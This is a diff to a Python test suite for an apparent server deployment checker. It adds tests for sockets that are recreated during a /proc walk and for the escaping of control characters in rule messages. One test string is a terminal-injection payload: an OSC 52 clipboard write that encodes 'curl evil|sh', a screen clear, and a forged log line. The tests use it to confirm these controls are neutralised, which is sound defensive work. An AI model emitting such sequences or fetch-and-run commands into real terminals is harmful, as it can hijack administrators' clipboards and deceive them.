@@ -25,7 +25,7 @@ from stock import outcome, with_stock_logins
 from deploytests.allowances import Allowances
 from deploytests.config import load_config
 from deploytests.examples import APPS
-from deploytests.verify import collect_login, grants, parse, rootacts
+from deploytests.verify import collect_login, grants, parse, promises, rootacts
 from deploytests.verify.facts import Facts
 from deploytests.verify.promises import Expected
 
@@ -245,6 +245,42 @@ def test_a_socket_that_came_or_went_during_roots_walk_is_not_held_by_no_one_one_
     snap = parse.Snapshot(raw)
     names = {s["name"] for s in sockets.unix_listeners(snap, parse.Procs(snap))}
     assert "@stuck" in names and "@gone" not in names, names
+
+
+def net_row(port: int, inode: int, uid: int, state: str = "0A") -> str:
+    return (f"   0: 00000000:{port:04X} 00000000:0000 {state} 00000000:00000000 00:00000000 00000000  {uid:5d}"
+            f"        0 {inode} 1\n")
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+@pytest.mark.parametrize("proto, state", [("tcp", "0A"), ("udp", "07")])
+def test_a_listener_replacing_its_socket_faster_than_roots_walk_is_the_deploy_logins_all_the_same(
+        exp, platform, proto, state):
+    """Class: a listener of a less trusted party that escapes by never being in both reads of the sockets. The
+    deploy login's listener on 0.0.0.0:9999 closed and made its socket again faster than root's walk of /proc: the
+    login collector's read listed one socket, root saw the process hold a second, root's read after the walk
+    listed a third; each "came or went during the walk", so it was never said to be held by no one and never
+    judged, and the gate passed with the port open. A socket in one read only is still skipped when a daemon's
+    (a restart: root's MTA on port 25 here); one the deploy login or the app user owns (the kernel's uid of the
+    socket: no one else's process can make it) is judged whoever holds it. Other member: a bound UDP socket."""
+    from test_closed_world import clean_facts, failing, inv
+
+    raw, path = copy.deepcopy(STOCK[platform]), f"/proc/net/{proto}"
+    head = TCP_HEAD
+    raw["earlier"] = {path: head + net_row(9999, 78000, 1000, state) + net_row(25, 78010, 0, state)}
+    raw["files"][path] = {"data": head + net_row(9999, 78002, 1000, state) + net_row(25, 78011, 0, state)}
+    raw["proc"]["4343"] = {"uid": 1000, "stat": "4343 (python3) S 1 4343 4343 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 "
+                                                "900 " + "0 " * 30, "cmdline": "/usr/bin/python3\0/tmp/l.py\0",
+                           "exe": "/usr/bin/python3.11", "cwd": "/tmp", "sockets": ["socket:[78001]"], "status": ""}
+    found = [s for s in parse.Procs(parse.Snapshot(raw)).listeners() if s["port"] in (9999, 25)]
+    assert sorted((s["port"], s["procs"], s["lasted"], s["owner"]) for s in found) == [
+        (25, [], False, "root"), (9999, [], False, "appuser")], found
+    facts = clean_facts(platform)
+    inv(facts)["listeners"] += found
+    msg = failing(facts, exp)["cw_listen"]
+    shown = ("UDP" if proto == "udp" else "TCP") + " *:9999 listens: owner uid 1000 (appuser), a socket made while " \
+        "root walked /proc for its holder"
+    assert shown in msg and ":25 " not in msg, msg
 
 
 # ---------------------------------------------------------------- class 4: other privilege brokers
@@ -621,3 +657,47 @@ def test_the_walks_of_what_processes_name_spend_the_replys_budget():
     out.update(mapped={}, errors={}, size=collect_root.BIG + (6 << 20))  # (past it: one read may overshoot)
     collect_root.mapped(out)
     assert out["errors"].get("mapped files") == "more than 0: the rest not looked at" and not out["mapped"], out
+
+
+# ---------------------------------------------------------------- what reaches the admin's terminal
+
+HOSTILE = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\r\n- pid 1 (root) nothing else to see"  # (OSC 52: the clipboard)
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_no_rule_puts_a_control_or_a_line_of_the_kernels_proc_text_on_the_admins_terminal(exp, platform):
+    """Class: server text a rule quotes from the raw snapshot (``Facts.raw``: root's ``/proc`` reads, not made
+    safe) printed as it is. A directory the deploy login named in its tree with an OSC 52 sequence (a write to the
+    admin's clipboard: ``curl evil|sh``) and a newline, the working directory of a root process (a tmux pane, a
+    job): ``cw_processes`` printed both raw to the admin's terminal, the clipboard written and a line of its own
+    faked. Every rule's message is now made safe where it leaves ``verify`` (controls escaped, its own lines kept),
+    and the process rule quotes those names as one line. Other members: the process's executable, a file it holds
+    open, its command line, environment and maps; a root process and Apache's user's."""
+    root = "/var/www/yourapplication"
+    facts = host(platform)
+    stat_line = "{pid} (x) S 1 {pid} {pid} 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 900 " + "0 " * 30
+    for pid, uid, where in ((4344, 0, f"{root}/{HOSTILE}"), (4345, 0, "/"), (4347, 33, f"{root}/{HOSTILE}")):
+        facts.raw.raw["proc"][str(pid)] = {
+            "uid": uid, "stat": stat_line.format(pid=pid), "status": f"Uid:\t{uid}\t{uid}\t{uid}\t{uid}\n",
+            "cmdline": f"/usr/bin/python3\0{root}/{HOSTILE}\0", "exe": where, "cwd": where, "sockets": [],
+            "open": [f"{root}/o{HOSTILE}"], "environ": f"PYTHONPATH={root}/{HOSTILE}\0", "cgroup": "0::/\n",
+            "maps": f"7f00-7f01 r-xp 00000000 08:01 12 {root}/lib{HOSTILE}.so\n"}
+    said = {pid: outcome(pid, copy.deepcopy(facts), exp) for pid in promises.BY_ID}
+    assert said["cw_processes"].startswith("fail: ") and "its working directory is" in said["cw_processes"]
+    for pid, text in said.items():
+        assert not set(text) & {"\x1b", "\x07", "\r"} and "\n- pid 1 (root) nothing" not in text, (pid, text)
+    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in said["cw_processes"]  # shown, never acted on
+
+
+def test_what_a_rule_says_leaves_verify_made_safe(exp, monkeypatch):
+    """The class closed where every rule's message passes: a failure's and a skip's text, its lines kept."""
+    def rule(facts, exp):
+        raise AssertionError(f"two lines:\n- one names {HOSTILE}")
+
+    monkeypatch.setitem(promises.CHECKS, "cw_listen", rule)
+    said = outcome("cw_listen", host("debian12"), exp)
+    assert said == "fail: two lines:\n- one names x\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\n- pid 1 (root) nothing " \
+                   "else to see", said  # (\r\n is a newline: a rule's own line may not be told from it)
+    monkeypatch.setitem(promises.CHECKS, "cw_listen", lambda f, e: (_ for _ in ()).throw(promises.NotApplicable(
+        "not here: \x9b2J")))
+    assert outcome("cw_listen", host("debian12"), exp) == "skip: not here: \\x9b2J"
